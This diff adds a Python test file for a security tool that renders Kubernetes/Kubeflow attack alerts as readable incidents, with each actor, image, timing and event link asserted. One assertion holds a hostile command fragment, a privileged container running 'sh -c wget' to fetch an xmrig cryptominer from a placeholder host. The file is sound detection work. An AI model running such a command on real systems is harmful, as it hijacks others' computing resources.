@@ -1,0 +1,122 @@
+"""The incident as a person reads it."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from typing import Any
+
+import orjson
+import pytest
+
+from streamer.ecs import alert_document
+from streamer.ecs.durations import duration_text
+from streamer.ecs.incident import incident, incident_lines, source_text
+from streamer.model import AUDIT, Alert, Step
+from tests.ecs.samples import CONTEXT, RULES, RUN_ID, audit, chain, chain_alert, event, firing, match
+
+
+def document(alert: Alert) -> dict[str, Any]:
+    parsed: dict[str, Any] = orjson.loads(alert_document(alert, RULES, CONTEXT).body)
+    return parsed
+
+
+def test_who_is_the_address_that_came_in_and_whom_it_acted_through() -> None:
+    seen = incident(document(chain_alert()))
+    assert seen.who == (
+        "203.0.113.7",
+        "acted through system:serviceaccount:kubeflow:ml-pipeline, system:serviceaccount:kubeflow:argo",
+    )
+
+
+def test_what_is_the_image_its_novelty_its_privileges_and_its_command() -> None:
+    what = incident(document(chain_alert())).what
+    assert what[:2] == ("tensorflow/tensorflow:latest (first seen)", "privileged")
+    assert what[2].startswith("runs sh -c wget https://files.example/xmrig")
+    assert "s3cr3t" not in what[2]
+
+
+def test_proof_counts_events_time_and_links() -> None:
+    """[A4] the alert counts both kinds of links along its chain."""
+    seen = incident(document(chain_alert()))
+    assert seen.proof == ("6 events in 52 s", "4 links exact, 0 by time only", "outcome success")
+    assert seen.absent == ("An authenticating proxy speaks",)
+
+
+def test_the_time_line_joins_its_steps_by_what_names_the_thing() -> None:
+    lines = [(entry.label, entry.join, entry.exact) for entry in incident_lines(document(chain_alert()))]
+    assert lines == [
+        ("gateway", "", False),
+        ("gateway", f"run id {RUN_ID}", True),
+        ("audit", f"run id {RUN_ID}", True),
+        ("audit", "workflow uid 8d0e", True),
+        ("pod log", "pod uid 51be", True),
+    ]
+
+
+def test_a_pod_and_its_container_are_one_moment_with_what_was_new() -> None:
+    pod = incident_lines(document(chain_alert()))[3]
+    assert pod.rules == ("Pod", "Image")
+    assert pod.new == ("tensorflow/tensorflow",)
+    assert pod.text.startswith("argo created pod sequential-pipeline-x7k2p-1483 in kubeflow · container main")
+
+
+def test_a_link_by_time_says_so() -> None:
+    rules = replace(RULES, correlations=tuple(replace(rule, link_exact=False) for rule in RULES.correlations))
+    told = orjson.loads(alert_document(chain_alert(), rules, CONTEXT).body)
+    assert incident_lines(told)[2].join == f"run id {RUN_ID} · by time only"
+
+
+def test_a_run_of_similar_events_is_folded_with_its_true_count() -> None:
+    shown = [
+        match("pod", event(AUDIT, at, audit("create", "pods", "bob", auditID=f"a{at}"), at + 1)) for at in range(20)
+    ]
+    fired = firing("run_pod", {"workflow_uid": "8d0e"}, *shown)
+    fired = replace(fired, steps=(Step("pod", fired.steps[0].members, 500),))
+    entries = incident_lines(document(Alert("ab" * 16, fired)))
+    assert [entry.more for entry in entries] == [498, 0]
+
+
+def test_a_lone_detection_needs_no_links() -> None:
+    happened = event(AUDIT, 0, audit("get", "secrets", "bob", outcome="denied", responseStatus={"code": 403}), 7)
+    seen = incident(document(Alert("ab" * 16, firing("pod", {}, match("pod", happened)))))
+    assert seen.who == ("bob from 10.0.0.5",)
+    assert seen.what == ("secrets kubeflow",)
+    assert seen.proof == ("1 event", "outcome denied")
+    assert seen.records == ("audit.ndjson:7",)
+
+
+def test_impersonation_is_shown_beside_the_actor() -> None:
+    """[A5] an impersonated identity is named beside, never instead."""
+    happened = event(AUDIT, 0, audit("get", "secrets", "bob", impersonatedUser={"username": "root"}), 7)
+    seen = incident(document(Alert("ab" * 16, firing("pod", {}, match("pod", happened)))))
+    assert seen.who == ("bob acting as root from 10.0.0.5",)
+
+
+def test_marks_become_sentences() -> None:
+    """[A4] the marks provisional, cut, cold_start."""
+    alert = Alert("ab" * 16, replace(chain(), marks=("cold_start", "cut", "provisional")))
+    proof = " ".join(incident(document(alert)).proof)
+    assert "beyond the beginning of the log" in proof
+    assert "beyond the end of the log" in proof
+    assert "may still change" in proof
+
+
+@pytest.mark.parametrize(
+    ("length_us", "text"),
+    [
+        (0, "0 s"),
+        (10, "less than 1 ms"),
+        (340_000, "340 ms"),
+        (52_322_000, "52 s"),
+        (200_000_000, "3 min 20 s"),
+        (3_600_000_000, "1 h"),
+        (187_200_000_000, "2 d 4 h"),
+    ],
+)
+def test_lengths_of_time_are_said_in_at_most_two_units(length_us: int, text: str) -> None:
+    assert duration_text(length_us) == text
+
+
+def test_a_place_is_written_as_editors_and_kafka_tools_write_it() -> None:
+    assert source_text({"file": "a.ndjson", "line": 3}) == "a.ndjson:3"
+    assert source_text({"topic": "t", "partition": 1, "offset": 9}) == "t[1]@9"
